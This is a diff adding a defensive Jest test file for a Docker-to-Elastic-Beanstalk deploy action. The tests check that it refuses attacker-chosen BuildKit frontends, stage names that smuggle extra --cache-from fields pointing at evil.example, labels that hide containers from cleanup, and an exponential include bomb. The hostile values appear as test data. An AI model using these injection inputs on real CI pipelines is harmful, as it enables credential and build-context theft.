@@ -1,0 +1,232 @@
+// Attack round 9 (docs/reliability.md): the variants that got through, each expecting the safe behaviour. A
+// BuildKit frontend other than Docker's (named by `# syntax=` or the BUILDKIT_SYNTAX build arg) is given the
+// build context past .dockerignore; a stage name written by the repository became fields of a --cache-from
+// value; a compose label under the action's prefix hid a smoke-test container from its cleanup; an include fan-out
+// read 2^depth files.
+
+import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
+
+import { buildArgs } from '../../src/adapters/docker/build-args.js'
+import { checkBuildInputs } from '../../src/adapters/docker/build-context.js'
+import { stagesToCache } from '../../src/build/dockerfile-stages.js'
+import { customFrontend } from '../../src/core/compose/dockerfile-frontend.js'
+import { loadCompose } from '../../src/core/compose/load.js'
+import { renderDockerrun } from '../../src/core/dockerrun.js'
+import type { DockerrunV2 } from '../../src/core/dockerrun-types.js'
+import { buildPlan } from '../../src/core/plan/build-plan.js'
+import { runnerVariableNamed } from '../../src/core/runner-variables.js'
+import { PROJECT_LABEL, planApp } from '../../src/ecs-agent/docker-argv.js'
+import { configFor } from './core/support.js'
+
+const URI = '123456789012.dkr.ecr.us-east-1.amazonaws.com/puppies/web'
+
+function errorOf(run: () => unknown): string {
+  try {
+    run()
+  } catch (error) {
+    return error instanceof Error ? error.message : String(error)
+  }
+  throw new Error('expected an error')
+}
+
+async function rejectionOf(run: () => Promise<unknown>): Promise<string> {
+  try {
+    await run()
+  } catch (error) {
+    return error instanceof Error ? error.message : String(error)
+  }
+  throw new Error('expected a rejection')
+}
+
+describe('a build names only Docker’s own frontend', () => {
+  let workspace: string
+  beforeEach(() => {
+    workspace = mkdtempSync(path.join(os.tmpdir(), 'round9-build-'))
+    // actions/checkout's default persist-credentials: the token in .git/config
+    mkdirSync(path.join(workspace, '.git'))
+    writeFileSync(
+      path.join(workspace, '.git', 'config'),
+      '[http]\n\textraheader = AUTHORIZATION: basic eA==\n'
+    )
+  })
+  afterEach(() => rmSync(workspace, { recursive: true, force: true }))
+
+  const write = (file: string, text: string): void => {
+    mkdirSync(path.dirname(path.join(workspace, file)), { recursive: true })
+    writeFileSync(path.join(workspace, file), text)
+  }
+  const firstImage = () => {
+    const project = loadCompose({
+      path: 'docker-compose.yml',
+      text: readFileSync(path.join(workspace, 'docker-compose.yml'), 'utf8'),
+      env: {},
+      runnerVariableNamed: runnerVariableNamed([]),
+      readFile: relative => {
+        const absolute = path.join(workspace, relative)
+        return existsSync(absolute) && statSync(absolute).isFile()
+          ? readFileSync(absolute, 'utf8')
+          : undefined
+      }
+    })
+    const image = buildPlan(configFor(), project).images[0]
+    if (!image) throw new Error('no image')
+    return image
+  }
+
+  it.each([
+    ['# syntax=docker.io/attacker/frontend:1', 'docker.io/attacker/frontend:1'],
+    ['#syntax=attacker/dockerfile:1', 'attacker/dockerfile:1'],
+    ['# SYNTAX = ghcr.io/docker/dockerfile:1', 'ghcr.io/docker/dockerfile:1'],
+    ['// syntax=attacker/frontend', 'attacker/frontend'],
+    ['# check=skip=all\n# syntax=docker/dockerfile-evil:1', 'docker/dockerfile-evil:1'],
+    ['# syntax=docker/dockerfile:1,attacker', 'docker/dockerfile:1,attacker']
+  ])('%j in the Dockerfile is refused before anything is built', async (directive, image) => {
+    write('.dockerignore', '.git\n')
+    write('Dockerfile', `${directive}\nFROM alpine\nCOPY . /app\n`)
+    write('docker-compose.yml', 'services:\n  web:\n    build: .\n    ports: ["80:80"]\n')
+    const message = await rejectionOf(() => checkBuildInputs(workspace, firstImage()))
+    expect(message).toContain(`names the BuildKit frontend "${image}"`)
+    expect(message).toContain('use docker/dockerfile')
+  })
+
+  it('the Dockerfile at the checkout root built with a context below it: the frontend is refused there too', async () => {
+    write('app/index.js', 'console.log(1)\n')
+    write('Dockerfile', '# syntax=docker.io/attacker/frontend:1\nFROM node:20-alpine\nCOPY . /app\n')
+    write(
+      'docker-compose.yml',
+      'services:\n  web:\n    build: {context: app, dockerfile: ../Dockerfile}\n    ports: ["80:80"]\n'
+    )
+    expect(await rejectionOf(() => checkBuildInputs(workspace, firstImage()))).toMatch(/BuildKit frontend/)
+  })
+
+  it('a compose build arg BUILDKIT_SYNTAX is refused the same way', async () => {
+    write('.dockerignore', '.git\n')
+    write('Dockerfile', 'FROM alpine\n')
+    write(
+      'docker-compose.yml',
+      'services:\n  web:\n    build:\n      context: .\n      args: {BUILDKIT_SYNTAX: "docker.io/attacker/frontend:1"}\n    ports: ["80:80"]\n'
+    )
+    expect(await rejectionOf(() => checkBuildInputs(workspace, firstImage()))).toContain(
+      'build arg BUILDKIT_SYNTAX names the BuildKit frontend "docker.io/attacker/frontend:1"'
+    )
+  })
+
+  it('Docker’s own frontend images stay allowed, by tag or digest', async () => {
+    const digest = `sha256:${'a'.repeat(64)}`
+    for (const allowed of [
+      'docker/dockerfile:1',
+      'docker/dockerfile:1.7-labs',
+      'docker.io/docker/dockerfile:1.4',
+      `docker/dockerfile-upstream:master@${digest}`,
+      `docker/dockerfile@${digest}`
+    ]) {
+      expect(customFrontend(`# syntax=${allowed}\nFROM alpine\n`, {})).toBeUndefined()
+      expect(customFrontend('FROM alpine\n', { BUILDKIT_SYNTAX: allowed })).toBeUndefined()
+    }
+    // A comment after the first instruction is no directive.
+    expect(customFrontend('FROM alpine\n# syntax=attacker/frontend\n', {})).toBeUndefined()
+    write('.dockerignore', '.git\n')
+    write('Dockerfile', '# syntax=docker/dockerfile:1\nFROM alpine\n')
+    write('docker-compose.yml', 'services:\n  web:\n    build: .\n    ports: ["80:80"]\n')
+    await expect(checkBuildInputs(workspace, firstImage())).resolves.toMatchObject({ warnings: [] })
+  })
+})
+
+describe('a stage name never becomes fields of --cache-from', () => {
+  it.each([
+    ['x,type=s3,region=us-east-1,bucket=b,endpoint_url=https://evil.example'],
+    ['x,type=gha,url=https://evil.example/'],
+    ['X=1'],
+    ['1stage']
+  ])('FROM alpine AS %s is no stage to cache (BuildKit refuses the name)', name => {
+    const dockerfile = `FROM alpine AS a\nFROM alpine AS ${name}\nFROM a\nCOPY --from=1 /etc/hostname /h\n`
+    const stages = stagesToCache(dockerfile)
+    expect(stages).toEqual([])
+    const cacheRef = `${URI}:buildcache`
+    const argv = buildArgs({
+      path: { kind: 'inline-cache', builder: 'default' },
+      contextDir: '/w',
+      dockerfile: '/w/Dockerfile',
+      buildArgs: {},
+      labels: {},
+      tags: [`${URI}:sha`],
+      cacheRef,
+      stageCacheRefs: stages.map(stage => `${cacheRef}-${stage}`)
+    }).args
+    const values = argv.flatMap((word, index) => (argv[index - 1] === '--cache-from' ? [word] : []))
+    expect(values).toEqual([`type=registry,ref=${cacheRef}`])
+  })
+
+  it('a valid name is still cached', () => {
+    expect(
+      stagesToCache('FROM alpine AS gems.build-1\nFROM alpine\nCOPY --from=gems.build-1 /a /a\n')
+    ).toEqual(['gems.build-1'])
+  })
+})
+
+describe('the smoke test’s cleanup label is the action’s alone', () => {
+  const compose = (label: string) =>
+    `services:\n  web:\n    image: nginx:1.27\n    ports: ["80:80"]\n    labels: {"${label}": "not-this-run"}\n`
+  const load = (text: string) =>
+    loadCompose({
+      path: 'docker-compose.yml',
+      text,
+      env: {},
+      runnerVariableNamed: runnerVariableNamed([]),
+      readFile: () => undefined
+    })
+
+  it.each([PROJECT_LABEL, 'beanstalk-docker-deploy.anything'])(
+    'a compose label %s is refused in one line',
+    label => {
+      expect(errorOf(() => load(compose(label)))).toBe(
+        `service "web" labels ${label}: labels under beanstalk-docker-deploy. are the action's own (its cleanup finds containers by them); rename it`
+      )
+    }
+  )
+
+  it('a Dockerrun that carries one (an older bundle) does not hide the container: its label under the action’s prefix is not passed', () => {
+    const plan = buildPlan(
+      configFor(),
+      load('services:\n  web:\n    image: nginx:1.27\n    ports: ["80:80"]\n')
+    )
+    const document: DockerrunV2 = renderDockerrun(plan, {})
+    const web = document.containerDefinitions[0]
+    if (!web) throw new Error('no container')
+    web.dockerLabels = { [PROJECT_LABEL]: 'not-this-run', 'com.example.team': 'web' }
+    const app = planApp(document, { project: 'bdd-smoke-0011aabb', hostDir: '/tmp/h', bundleDir: '/tmp/b' })
+    const args = app.containers[0]?.createArgs ?? []
+    const labels = args.flatMap((word, index) => (args[index - 1] === '--label' ? [word] : []))
+    expect(labels).toEqual([`${PROJECT_LABEL}=bdd-smoke-0011aabb`, 'com.example.team=web'])
+  })
+})
+
+describe('an include fan-out ends in one line', () => {
+  it('each file listing the next twice (2^30 loads): refused after 100 files', () => {
+    const files: Record<string, string> = {}
+    const depth = 30
+    for (let level = 1; level < depth; level++)
+      files[`f${level}.yml`] = `include:\n  - f${level + 1}.yml\n  - f${level + 1}.yml\n`
+    files[`f${depth}.yml`] = 'x-leaf: 1\n'
+    let reads = 0
+    const message = errorOf(() =>
+      loadCompose({
+        path: 'docker-compose.yml',
+        text: 'include:\n  - f1.yml\n  - f1.yml\nservices:\n  web:\n    image: nginx:1.27\n    ports: ["80:80"]\n',
+        env: {},
+        runnerVariableNamed: runnerVariableNamed([]),
+        readFile: file => {
+          reads++
+          return files[file]
+        }
+      })
+    )
+    expect(message).toMatch(
+      /include reads more than 100 compose files \(is a file included more than once\?\)/
+    )
+    expect(reads).toBeLessThan(300)
+  })
+})
